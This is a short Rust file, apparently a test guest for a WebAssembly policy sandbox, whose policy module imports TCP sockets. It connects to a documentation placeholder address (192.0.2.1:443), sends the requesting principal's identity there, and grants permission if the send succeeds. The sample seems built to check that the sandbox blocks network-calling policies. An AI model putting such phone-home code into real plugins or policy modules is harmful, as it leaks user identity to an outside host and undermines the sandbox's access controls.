//! Wants to call home.

#[allow(unsafe_code, clippy::all, reason = "generated")]
mod bindings {
    wit_bindgen::generate!({
        inline: "
            package portcullis:chatty;
            world chatty {
                import wasi:sockets/tcp@0.2.0;
                import tell: func(host: string, text: string) -> bool;
            }
            package wasi:sockets@0.2.0 {
                interface tcp { connect: func(address: string) -> bool; }
            }
        ",
        world: "chatty",
        generate_all,
    });
}

guests::guest!("imports-network", |context| {
    let user = format!("{:?}", context.principal);
    let told = bindings::wasi::sockets::tcp::connect("192.0.2.1:443")
        && bindings::tell("192.0.2.1", &user);
    if told {
        policy_sdk::permit()
    } else {
        policy_sdk::abstain()
    }
});
